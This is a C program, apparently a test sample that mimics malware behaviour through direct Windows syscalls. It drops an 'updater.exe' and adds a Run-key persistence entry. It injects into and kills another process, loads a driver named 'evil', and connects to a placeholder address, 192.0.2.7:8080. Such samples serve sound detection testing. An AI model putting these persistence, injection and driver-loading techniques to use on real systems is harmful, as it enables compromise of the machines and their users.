// A program that does what a thing of bad will does: files, keys, another process' memory, a driver, a connection.
typedef unsigned char u8;
typedef unsigned short u16;
typedef unsigned int u32;
typedef unsigned long long u64;

struct text {
  u16 length, maximum;
  u32 padding;
  const u16 *buffer;
};
struct attributes {
  u64 length, root;
  const struct text *name;
  u64 flags, security, quality;
};

// Number in EAX, the first argument in R10, those behind the fourth on the stack as they are.
#define CALL(name, number) \
  __attribute__((naked, noinline)) static u64 name(u64 a, u64 b, u64 c, u64 d, u64 e, u64 f, u64 g, u64 h, u64 i, u64 j) { \
    __asm__("mov %rcx, %r10\n mov $" #number ", %eax\n syscall\n ret"); \
  }
CALL(NtDeviceIoControlFile, 0x7)
CALL(NtWriteFile, 0x8)
CALL(NtAllocateVirtualMemory, 0x18)
CALL(NtCreateKey, 0x1d)
CALL(NtOpenProcess, 0x26)
CALL(NtSetInformationFile, 0x27)
CALL(NtTerminateProcess, 0x2c)
CALL(NtWriteVirtualMemory, 0x3a)
CALL(NtProtectVirtualMemory, 0x50)
CALL(NtCreateFile, 0x55)
CALL(NtSetValueKey, 0x60)
CALL(NtCreateThreadEx, 0xb6)
CALL(NtDeleteValueKey, 0xcb)
CALL(NtLoadDriver, 0xf9)

#define TEXT(variable, string)                                            \
  static const u16 variable##_text[] = string;                            \
  static const struct text variable = {sizeof variable##_text - 2, sizeof variable##_text, 0, variable##_text}
TEXT(path, L"\\??\\C:\\Users\\Public\\updater.exe");
TEXT(afd, L"\\Device\\Afd\\Endpoint");
TEXT(run, L"\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
TEXT(updater, L"Updater");
TEXT(old, L"Old");
TEXT(driver, L"\\Registry\\Machine\\System\\CurrentControlSet\\Services\\evil");
static const u16 command[] = L"C:\\Users\\Public\\updater.exe /quiet";
// FILE_RENAME_INFORMATION
static struct {
  u64 flags, root;
  u32 length;
  u16 name[12];
} __attribute__((packed)) rename_to = {1, 0, 24, {'\\', '?', '?', '\\', 'C', ':', '\\', 'n', '.', 'e', 'x', 'e'}};
// The address of 192.0.2.7, port 8080, behind what afd.sys wants before it.
static struct {
  u64 before[3];
  u16 family;
  u8 port[2], address[4], zero[8];
} connection = {{0, 0, 0}, 2, {0x1f, 0x90}, {192, 0, 2, 7}, {0}};

static struct attributes attributes;
static u64 handle, status[2], other[2];
static u32 disposition;
static u8 is_going = 1;

static u64 open(const struct text *name, u64 how) {
  attributes = (struct attributes){sizeof attributes, 0, name, 0x40, 0, 0};
  NtCreateFile((u64)&handle, 0x120116, (u64)&attributes, (u64)status, 0, 0x80, 0, how, 0x60, 0);
  return handle;
}

static void act(void) {
  u64 file = open(&path, 2);
  for (u32 at = 0; at < 3; at++) NtWriteFile(file, 0, 0, 0, (u64)status, (u64)command, sizeof command, 0, 0, 0);
  NtSetInformationFile(file, (u64)status, (u64)&rename_to, sizeof rename_to, 10, 0, 0, 0, 0, 0);
  NtSetInformationFile(open(&path, 1), (u64)status, (u64)&is_going, 1, 13, 0, 0, 0, 0, 0);
  attributes = (struct attributes){sizeof attributes, 0, &run, 0x40, 0, 0};
  NtCreateKey((u64)&handle, 0xf003f, (u64)&attributes, 0, 0, 0, (u64)&disposition, 0, 0, 0);
  u64 key = handle;
  NtSetValueKey(key, (u64)&updater, 0, 1, (u64)command, sizeof command, 0, 0, 0, 0);
  u32 number = 7;
  NtSetValueKey(key, (u64)&old, 0, 4, (u64)&number, 4, 0, 0, 0, 0);
  NtDeleteValueKey(key, (u64)&old, 0, 0, 0, 0, 0, 0, 0, 0);
  // The first process is 4, the second 12.
  other[0] = 12;
  attributes = (struct attributes){sizeof attributes, 0, 0, 0, 0, 0};
  NtOpenProcess((u64)&handle, 0x1fffff, (u64)&attributes, (u64)other, 0, 0, 0, 0, 0, 0);
  u64 victim = handle;
  NtAllocateVirtualMemory(victim, (u64)other, 0, (u64)other, 0x3000, 0x40, 0, 0, 0, 0);
  NtWriteVirtualMemory(victim, 0x10000, (u64)command, sizeof command, 0, 0, 0, 0, 0, 0);
  NtWriteVirtualMemory(~0ull, 0x10000, (u64)command, sizeof command, 0, 0, 0, 0, 0, 0);
  NtCreateThreadEx((u64)&handle, 0x1fffff, 0, victim, 0x10000, 0, 0, 0, 0, 0);
  NtProtectVirtualMemory(~0ull, (u64)other, (u64)other, 0x20, (u64)other, 0, 0, 0, 0, 0);
  NtProtectVirtualMemory(~0ull, (u64)other, (u64)other, 0x40, (u64)other, 0, 0, 0, 0, 0);
  NtTerminateProcess(victim, 0, 0, 0, 0, 0, 0, 0, 0, 0);
  NtLoadDriver((u64)&driver, 0, 0, 0, 0, 0, 0, 0, 0, 0);
  NtDeviceIoControlFile(open(&afd, 1), 0, 0, 0, (u64)status, 0x12007, (u64)&connection, sizeof connection, 0, 0);
}

void start(u64 (*yield)(void), u64 (*delay)(u64, u64)) {
  (void)delay;
  for (u32 times = 0;; times++) {
    yield();
    if (times == 0) act();
  }
}
